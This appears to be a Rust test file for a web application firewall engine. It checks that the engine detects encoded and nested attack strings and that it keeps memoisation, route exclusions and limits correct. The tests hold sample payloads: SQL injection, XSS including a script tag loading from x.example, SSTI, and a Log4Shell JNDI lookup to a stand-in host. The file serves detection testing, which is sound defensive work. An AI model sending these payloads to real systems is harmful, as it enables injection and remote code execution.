    // shapes that would be quadratic in a naive scanner; each must simply complete
    let e = engine(&WafConfig::default());
    let p = parts("POST", "/", &[("content-type", "text/plain")]);
    let v = RequestView::from_parts(&p);
    for unit in [
        "top[", "<a x ", "${", ";", "') or (", "{{", "../", "\\u", "%25", "&#x", "/*", "$(", "`",
    ] {
        let big = unit.repeat((512 << 10) / unit.len());
        let f = e.inspect(
            "r",
            &v,
            Some(BodyView {
                data: big.as_bytes(),
                truncated: false,
            }),
        );
        assert!(f.findings.len() <= 32, "{unit}");
    }
}

fn get_findings(
    e: &WafEngine,
    route: &str,
    uri: &str,
    headers: &[(&str, &str)],
) -> Vec<(Attack, String)> {
    let p = parts("GET", uri, headers);
    let view = RequestView::from_parts(&p);
    attacks(&e.inspect_headers(route, &view))
}

#[test]
fn base64_payloads_in_the_path_are_decoded() {
    let e = engine(&WafConfig::default());
    // `???<script>...`: the `/` of the encoding splits it into segments, the
    // payload's one without a trigger byte
    let split = "/Pz8/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg";
    // unpadded base64 has no `+`/`=`: no trigger byte in the segment
    let flat = "/e3sxMzM3KjEzMzh9fSB7ezcqN319IHt7Y29uZmlnLml0ZW1zKCl9fQ";
    // 14 characters: `(alert)(1)`
    let short = "/KGFsZXJ0KSgxKQ";
    for uri in [split, flat, short] {
        let f = get_findings(&e, "r", uri, &[]);
        assert!(f.iter().any(|(_, loc)| loc == "path"), "{uri}: {f:?}");
    }
    // false-positive guards: ids, hashes and base64 of ordinary text in paths
    for uri in [
        "/api/v1/Users/AbCdEf12GhIjKl34/Orders/XyZ987",
        "/assets/3f9aB7c2/d4e8F1a0b2c3d4e5f6a7b8c9/app.js",
        "/node/VXNlcjoxMjM0NQ/edit",
        "/files/SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBub3JtYWwgbm90ZQ",
        "/videos/dQw4w9WgXcQ/comments/UgzAbCdEfGhIjKlMn",
    ] {
        let f = get_findings(&e, "r", uri, &[]);
        assert!(f.is_empty(), "{uri}: {f:?}");
    }
}

#[test]
fn a_tag_cut_by_its_own_slashes_in_the_path_is_read_whole() {
    let e = engine(&WafConfig::default());
    // each segment alone is no tag: `<script`, `src=http:`, `x.example`, `a.js>`
    let f = get_findings(&e, "r", "/%3Cscript/src=http://x.example/a.js%3E", &[]);
    assert!(
        f.iter().any(|(a, loc)| *a == Attack::Xss && loc == "path"),
        "{f:?}"
    );
    for uri in ["/compare/a%3Cb/c", "/tags/%3C3/love"] {
        let f = get_findings(&e, "r", uri, &[]);
        assert!(f.is_empty(), "{uri}: {f:?}");
    }
}

#[test]
fn base64_parameter_values_are_decoded_whatever_their_braces() {
    let e = engine(&WafConfig::default());
    // `{{1337*1338}}`: braces like JSON's, but a template; the lenient JSON walk
    // skipped it as garbage, so the decoded text was never inspected
    let f = get_findings(&e, "r", "/search?q=e3sxMzM3KjEzMzh9fQ", &[]);
    assert!(f.iter().any(|(a, _)| *a == Attack::Ssti), "{f:?}");
    // JSON decoded from base64 is still walked as JSON: `{"a":"' or 1=1--"}`
    let f = get_findings(&e, "r", "/search?q=eyJhIjoiJyBvciAxPTEtLSJ9", &[]);
    assert!(
        f.iter()
            .any(|(a, loc)| *a == Attack::Sqli && loc == "json:/a"),
        "{f:?}"
    );
    // base64 of ordinary braces and JSON passes: `{customer_name} {order_id}`,
    // `{"page":2}`
    for q in ["e2N1c3RvbWVyX25hbWV9IHtvcmRlcl9pZH0", "eyJwYWdlIjoyfQ"] {
        let f = get_findings(&e, "r", &format!("/search?q={q}"), &[]);
        assert!(f.is_empty(), "{q}: {f:?}");
    }
}

#[test]
fn repeated_header_values_give_identical_findings() {
    let ua = (
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    );
    let e = engine(&WafConfig::default());
    for _ in 0..3 {
        assert!(get_findings(&e, "r", "/", &[ua]).is_empty());
    }
    // an attack value is never memoised as clean
    let bad = ("user-agent", "Mozilla/5.0 ${jndi:ldap://x.example/a}");
    for _ in 0..3 {
        assert_eq!(
            get_findings(&e, "r", "/", &[bad]),
            vec![
                (Attack::Jndi, "header:user-agent".to_string()),
                // the Log4Shell virtual patch (CVE-2021-44228) names the same value
                (Attack::VirtualPatch, "header:user-agent".to_string())
            ]
        );
    }

    // an exclusion on one route does not make a value clean for another route
    let cfg = WafConfig {
        exclusions: vec![WafExclusion {
            route: Some("cms".into()),
            location: Some("header:x-html".into()),
            detector: Some("xss".into()),
            ..Default::default()
        }],
        ..Default::default()
    };
    let e = engine(&cfg);
    let h = ("x-html", "<img src=x onerror=alert(1)>");
    assert!(get_findings(&e, "cms", "/", &[h]).is_empty());
    assert_eq!(
        get_findings(&e, "api", "/", &[h]),
        vec![(Attack::Xss, "header:x-html".to_string())]
    );

    // the memo is per engine: a value clean under one configuration still hits
    // another engine's limit
    let nested = ("x-data", r#"{"a":{"b":{"c":{"d":"e"}}}}"#);
    let roomy = engine(&WafConfig::default());
    let p = parts("GET", "/", &[nested]);
    assert!(roomy
        .inspect_headers("r", &RequestView::from_parts(&p))
        .limits
        .is_empty());
    let mut tight = WafConfig::default();
    tight.limits.max_json_depth = 2;
    let tight = engine(&tight);
    for _ in 0..2 {
        let f = tight.inspect_headers("r", &RequestView::from_parts(&p));
        assert_eq!(f.limits.len(), 1, "{f:?}");
    }

    // memoised values still count towards max_params (the path is the first value)
    let mut few = WafConfig::default();
    few.limits.max_params = 2;
    let few = engine(&few);
    let hs = [
        ("accept", "text/html"),
        ("accept-language", "en-US,en;q=0.9"),
        ("accept-encoding", "gzip, deflate"),
    ];
    let p = parts("GET", "/", &hs);
    for _ in 0..3 {
        let f = few.inspect_headers("r", &RequestView::from_parts(&p));
        assert_eq!(
            f.limits,
            vec![moat_waf::LimitHit::new(
                moat_waf::Limit::MaxParams,
                "header:accept-language"
            )]
        );
    }
}

#[test]
fn mode_is_decided_with_the_head_and_kept_for_the_body() {
    use moat_core::RouteMode;
    let e = engine(&WafConfig::default());
    let attack = br#"{"q":"1' OR '1'='1' UNION SELECT password FROM users--"}"#.to_vec();
    let mut p = parts("POST", "/", &[("content-type", "application/json")]);

    // The head phase fills the slot; the body phase blocks by it.
    let mut ctx = RequestCtx::for_test("r");
    assert!(matches!(
        e.on_request_headers(&mut ctx, &mut p),
        Verdict::Continue
    ));
    assert_eq!(
        ctx.slots.waf,
        Some(RouteMode::Enforce(http::StatusCode::FORBIDDEN))
    );
    let mut b = body(attack.clone(), None, false);
    assert!(matches!(
        e.on_request_body(&mut ctx, &mut p, &mut b),
        Verdict::Respond(_)
    ));

    // The body phase reads the slot rather than deciding again: a request the head
    // phase found monitor-only is not blocked on its body, whatever the route says now.
    let mut ctx = RequestCtx::for_test("r");
    ctx.monitor_only = true;
    e.on_request_headers(&mut ctx, &mut p);
    assert_eq!(ctx.slots.waf, Some(RouteMode::Monitor));
    ctx.monitor_only = false;
    let mut b = body(attack, None, false);
    assert!(matches!(
        e.on_request_body(&mut ctx, &mut p, &mut b),
        Verdict::Continue
    ));
    assert!(ctx.events.iter().any(|x| x.action == EventAction::Monitor));
}

/// Findings carry the RFC 6901 pointer of the JSON string they were found in,
/// wherever it sits: keys with `~` and `/` (escaped as `~0` and `~1`), escaped
/// keys, a member after a nested container, array elements inside objects and
/// objects inside arrays, string values carrying JSON (as text and in base64),
/// and a key that is itself the attack.
#[test]
fn json_findings_name_their_pointer() {
    let e = engine(&WafConfig::default());
    let sqli = "x' UNION SELECT password FROM users--";
    let body = format!(
        r#"{{"a/b":{{"c~d":"{sqli}"}},"e":{{"f":[1,{{"g":"{sqli}"}}]}},"h":"{sqli}","\u0069d":"{sqli}","j":[["k","{sqli}"]],"n":"{{\"inner\":\"{sqli}\"}}","<script>alert(1)</script>":1,"z":{{}},"b64":"eyJxIjoieCcgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSJ9","last":"{sqli}"}}"#
    );
    let p = parts("POST", "/api", &[("content-type", "application/json")]);
    let f = e.inspect(
        "r",
        &RequestView::from_parts(&p),
        Some(BodyView {
            data: body.as_bytes(),
            truncated: false,
        }),
    );
    let got = attacks(&f);
    for want in [
        "json:/a~1b/c~0d",
        "json:/e/f/1/g",
        "json:/h",
        "json:/id",
        "json:/j/0/1",
        "json:/n",
        "json:/b64/q",
        "json:/<script>alert(1)<~1script>",
        "json:/last",
    ] {
        assert!(
            got.iter().any(|(_, l)| l == want),
            "no finding at {want} in {got:?}"
        );
    }
}

/// The fields whose CGI twins the gateway removes: none while every header is inspected
/// (a twin is inspected as a field of its own), the inspected ones otherwise.
#[test]
fn fields_decided_on_are_the_inspected_ones_when_not_every_header_is() {
    assert!(engine(&WafConfig::default()).fields_decided_on().is_empty());
    let cfg = WafConfig {
        inspect_all_headers: false,
        extra_headers: vec!["X-Api-Query".into()],
        ..WafConfig::default()
    };
    let names: Vec<String> = engine(&cfg)
        .fields_decided_on()
        .iter()
        .map(|h| h.to_string())
        .collect();
    assert_eq!(
        names,
        [
            "user-agent",
            "referer",
            "x-forwarded-for",
            "origin",
            "x-api-query"
        ]
    );
}
